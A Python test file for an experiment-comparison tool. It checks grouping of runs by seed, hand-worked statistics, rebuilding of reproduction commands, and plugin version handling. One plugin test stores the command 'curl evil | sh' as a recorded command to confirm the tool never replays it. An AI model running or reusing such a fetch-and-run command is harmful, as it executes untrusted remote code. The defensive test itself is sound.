"""Groups: runs that differ in nothing but their seed. Every number here is worked by hand."""

from __future__ import annotations

import dataclasses
import math
import shlex
import sys
from pathlib import Path
from typing import Any

import pytest
from helpers.benchmarks import domain_benchmark
from helpers.runs import grouped, scored_run, seeded

import twofold
from twofold.cli import main
from twofold.cli import run as run_command
from twofold.compare.groups import Group, groups
from twofold.compare.reductions import Reductions
from twofold.compare.shelf import Shelf, preference
from twofold.experiments.config import Config
from twofold.experiments.runs import Run


def test_runs_that_differ_in_their_seed_are_one_group() -> None:
    all_groups = groups(
        [
            scored_run(seed=162),
            scored_run("er+gem"),
            scored_run(seed=142),
            scored_run("er+gem", seed=152),
        ]
    )
    assert [(group.config.method, group.seeds) for group in all_groups] == [
        ("er", [142, 162]),
        ("er+gem", [142, 152]),
    ]


@pytest.mark.parametrize(
    "other",
    [
        {"lr": 0.01},
        {"batch_size": 10},
        {"mode": "online"},
        {"profile": "published"},
        {"iterations": 20},
        {"tasks": 2},
        {"eval_schedule": "every:10"},
        {"eval_schedule": "dense:50:5"},
        {"eval_size": 100},
        {"memory_per_class": 10},
        {"momentum": 0.5},
        {"benchmark": "domain-cifar100"},
    ],
    ids=lambda other: next(iter(other)),
)
def test_runs_that_differ_in_anything_else_are_not(other: dict[str, Any]) -> None:
    assert len(groups([scored_run(seed=142), scored_run(seed=152, **other)])) == 2


def test_the_numbers_of_a_group() -> None:
    (group,) = grouped(seeded("er", [1, 2, 6], [90, 94, 98]))
    assert group.values("min") == [1, 2, 6]
    assert group.mean("min") == 3
    assert group.error("min") == pytest.approx(math.sqrt(7 / 3))
    assert group.mean("avg") == 94
    assert group.by_seed("avg") == {142: 90, 152: 94, 162: 98}


def test_what_a_run_has_not_is_left_out() -> None:
    (group,) = grouped([scored_run(low=None), scored_run(low=80, seed=152)])
    assert group.values("min") == [80]
    assert (group.mean("min"), group.error("min")) == (80, None)
    assert group.values("no such thing") == []
    assert (group.mean("avg.deeper"), group.error("avg.deeper")) == (None, None)


def test_an_entry_within_an_entry() -> None:
    # 10, 10, 16: deviations -2, -2, 4; variance 24 / 2 = 12; error sqrt(12 / 3).
    seconds = {142: 10, 152: 10, 162: 16}
    (group,) = groups(scored_run(seconds=each, seed=seed) for seed, each in seconds.items())
    assert group.mean("seconds.training") == 12
    assert group.error("seconds.training") == pytest.approx(2)


@pytest.mark.parametrize(
    ("method", "objective", "routines"),
    [
        ("er", "er", "sgd"),
        ("er+sgd", "er", "sgd"),
        ("er+gem(gamma=0.1,when=always)", "er", "gem(gamma=0.1,when=always)"),
        ("der(beta=0.5)+agem", "der(beta=0.5)", "agem"),
        ("er+agem+gem", "er", "agem+gem"),
        ("finetune", "finetune", "sgd"),
        ("gem", "finetune", "gem"),
        ("gem(gamma=0.1)+agem", "finetune", "gem(gamma=0.1)+agem"),
    ],
)
def test_what_and_how(method: str, objective: str, routines: str) -> None:
    (group,) = groups([scored_run(method)])
    assert (group.objective, group.routines) == (objective, routines)


def test_how_many_diverged() -> None:
    (group,) = groups([scored_run(diverged=True), scored_run(seed=152)])
    assert group.diverged == 1


@pytest.mark.parametrize(
    ("options", "complete"),
    [
        ({}, True),
        ({"eval_schedule": "every:10"}, False),
        ({"eval_schedule": "dense:100:10"}, False),
        ({"eval_schedule": "dense:100:1"}, True),
    ],
    ids=["every", "every-10", "dense", "dense-1"],
)
def test_whether_every_iteration_was_evaluated(options: dict[str, Any], complete: bool) -> None:
    (group,) = groups([scored_run(**options)])
    assert group.complete == complete


def configs_of(command: str, monkeypatch: pytest.MonkeyPatch) -> list[Config]:
    """What a command would run."""
    requests: list[Config] = []
    monkeypatch.setattr(run_command, "train", lambda configs, args: requests.extend(configs) or 0)
    program, *words = shlex.split(command)
    assert program == "twofold"
    assert main(words) == 0
    return requests


@pytest.mark.parametrize(
    ("seeds", "said"),
    [([142], "--seed 142"), ([142, 152, 162], "--seeds 3"), ([152, 7], "--seed 7,152")],
    ids=["one", "first", "others"],
)
@pytest.mark.parametrize(
    "options",
    [
        {"method": "er"},
        {"method": "er+gem(gamma=0.1,when=always)", "lr": 0.01, "profile": "published"},
        {
            "method": "er",
            "benchmark": "split-cifar100",
            "mode": "online",
            "eval_schedule": "every:10",
        },
        {"method": "er", "memory_grouping": "class", "iterations": 20, "momentum": 0.5},
    ],
    ids=["usual", "gamma", "online", "special"],
)
def test_one_command_trains_all_seeds(
    seeds: list[int], said: str, options: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    (group,) = groups([scored_run(seed=seed, **options) for seed in seeds])
    command = group.command()
    assert command is not None
    assert said in command
    expected = {run.config.identity() for run in group.runs}
    assert {config.identity() for config in configs_of(command, monkeypatch)} == expected


def test_a_run_without_a_recorded_command_still_has_one() -> None:
    run = scored_run()
    del run.summary["command"]
    assert Group((run,)).command() == groups([scored_run()])[0].command()


def test_own_tensors_have_no_command() -> None:
    run = twofold.run(domain_benchmark(tasks=2), "er", batch_size=8, iterations=2)
    assert Group((run,)).command() is None


def test_a_component_that_is_not_available_has_a_command_if_its_plugin_is_named() -> None:
    """A plugin's run, read where nobody loads the plugin. The recorded command is not repeated."""
    run = scored_run()
    config = {"method": "er+theirs", "components": [*run.config.components, ["theirs", {}]]}
    summary = {**run.summary, "command": "sh -c 'curl evil | sh'"}
    theirs = Config(**{**vars(run.config), **config})
    assert Group((Run(theirs, summary, {}),)).command() is None
    with_plugin = Run(dataclasses.replace(theirs, plugins=["theirs.py"]), summary, {})
    words = shlex.split(Group((with_plugin,)).command() or "")
    assert words[:4] == ["twofold", "run", "rotated-mnist", "er+theirs"]
    assert words[-2:] == ["--plugin", "theirs.py"]


def test_runs_of_two_versions_of_a_plugin_are_two_groups(half: Path) -> None:
    """A table shows those of the file as it is now; alone, the others are marked."""
    options = {"plugins": [str(half)]}

    def runs(*lows: float) -> list[Run]:
        own = seeded("er+half", lows, **options)
        for run in own:
            run.summary["plugins"] = run.config.brought()
        return own

    def forget() -> None:
        """Forget the component, as a different process would not know it."""
        for name in [name for name in sys.modules if name.startswith("twofold_plugin_half")]:
            del sys.modules[name]

    first = runs(80, 81, 82)
    half.write_text(half.read_text() + "\n# another\n")
    forget()
    second = runs(90, 91)
    old, new = all_groups = groups([*first, *second])
    assert (old.seeds, new.seeds) == ([142, 152, 162], [142, 152])
    assert min(all_groups, key=preference) is new
    assert (Reductions.of(old).training, Reductions.of(new).training) == (
        ("with a different version of half.py",),
        (),
    )
    assert len(Shelf(all_groups).groups()) == 2
    half.unlink()  # nothing is known then
    forget()
    assert Reductions.of(old).training == ()


def test_runs_on_a_part_of_the_published_images_say_so() -> None:
    config = {"benchmark": "split-mini-imagenet", "mode": "online", "batch_size": 64, "lr": 0.01}
    part, whole = seeded("er", [3, 4], **config), seeded("er+gem", [1, 2], **config)
    for run in part:
        run.summary["examples"] = {"train": 625, "test": 125}
    one, other = grouped(part, whole)
    reduced = Reductions.of(one)
    assert reduced.training == ("trained on 625 of 2,500 examples per task, tested on 125 of 500",)
    assert reduced.images == "evaluated on 125 images per task"
    assert not reduced.comparable("avg")
    assert Reductions.of(other).comparable("avg")
